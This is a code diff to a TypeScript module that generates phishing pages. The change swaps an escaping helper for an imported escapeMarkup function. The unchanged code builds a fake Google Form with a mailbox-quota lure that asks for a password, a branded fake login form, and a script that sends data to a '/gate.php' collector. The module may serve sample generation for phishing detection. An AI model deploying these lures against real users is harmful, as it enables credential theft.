@@ -1,3 +1,4 @@
+import { escapeMarkup } from '../../lib/escape-markup.ts';
 import { brandStyle } from './brand-styles.ts';
 
 export interface PageHtmlSpec {
@@ -11,12 +12,6 @@ export interface PageHtmlSpec {
   /** Google Forms asking for a password (type 4 events). */
   googleForm?: boolean;
 }
-
-const esc = (text: string) =>
-  text.replace(
-    /[<>&'"]/g,
-    (c) => ({ '<': '&lt;', '>': '&gt;', '&': '&amp;', "'": '&#39;', '"': '&quot;' })[c] ?? c,
-  );
 
 function exfilScript(spec: PageHtmlSpec): string {
   const target = `https://${spec.collector}/gate.php`;
@@ -43,13 +38,13 @@ function exfilScript(spec: PageHtmlSpec): string {
 /** A Google Form that asks for a password: the pattern of type 4 events. */
 function googleFormPage(spec: PageHtmlSpec): string {
   return `<!DOCTYPE html>
-<html lang="en"><head><meta charset="utf-8"><title>${esc(spec.heading)}</title>
+<html lang="en"><head><meta charset="utf-8"><title>${escapeMarkup(spec.heading)}</title>
 <meta name="viewport" content="width=device-width, initial-scale=1"></head>
 <body style="background:#f0ebf8;font-family:Roboto,Arial,sans-serif">
 <div class="freebirdFormviewerViewFormCard" style="max-width:640px;margin:24px auto;background:#fff;border-top:10px solid #673ab7;border-radius:8px;padding:24px">
-<div role="heading" aria-level="1" style="font-size:28px">${esc(spec.brand)} account verification</div>
+<div role="heading" aria-level="1" style="font-size:28px">${escapeMarkup(spec.brand)} account verification</div>
 <div style="margin:12px 0">Your mailbox has reached its limit. Confirm your account details below to keep receiving email.</div>
-<form action="${esc(spec.url.replace('viewform', 'formResponse'))}" method="POST" id="mG61Hd">
+<form action="${escapeMarkup(spec.url.replace('viewform', 'formResponse'))}" method="POST" id="mG61Hd">
 <div>Email address *</div><input type="email" name="entry.1045781291" required>
 <div>Password *</div><input type="text" name="entry.2005620554" required>
 <div>Confirm password *</div><input type="text" name="entry.1065046570" required>
@@ -69,7 +64,7 @@ export function renderPageHtml(spec: PageHtmlSpec): string {
 <html lang="en">
 <head>
 <meta charset="utf-8">
-<title>${esc(spec.heading)} | ${esc(spec.brand)}</title>
+<title>${escapeMarkup(spec.heading)} | ${escapeMarkup(spec.brand)}</title>
 <meta name="viewport" content="width=device-width, initial-scale=1">
 <meta name="robots" content="noindex, nofollow">
 <link rel="icon" href="data:,">
@@ -83,14 +78,14 @@ export function renderPageHtml(spec: PageHtmlSpec): string {
 </head>
 <body>
 <div class="card">
-  <div class="logo">${esc(spec.brand)}</div>
-  <h1>${esc(spec.heading)}</h1>
-  <form id="login" method="post" action="${esc(action)}" autocomplete="off">
-    <input type="email" name="login" placeholder="${esc(s.field)}" required>
+  <div class="logo">${escapeMarkup(spec.brand)}</div>
+  <h1>${escapeMarkup(spec.heading)}</h1>
+  <form id="login" method="post" action="${escapeMarkup(action)}" autocomplete="off">
+    <input type="email" name="login" placeholder="${escapeMarkup(s.field)}" required>
     <input type="password" name="passwd" placeholder="Password" required>
-    <input type="hidden" name="ref" value="${esc(new URL(spec.url).hostname)}">
+    <input type="hidden" name="ref" value="${escapeMarkup(new URL(spec.url).hostname)}">
     <a href="#">Forgot password?</a>
-    <button type="submit">${esc(s.button)}</button>
+    <button type="submit">${escapeMarkup(s.button)}</button>
   </form>
 </div>
 ${exfilScript(spec)}
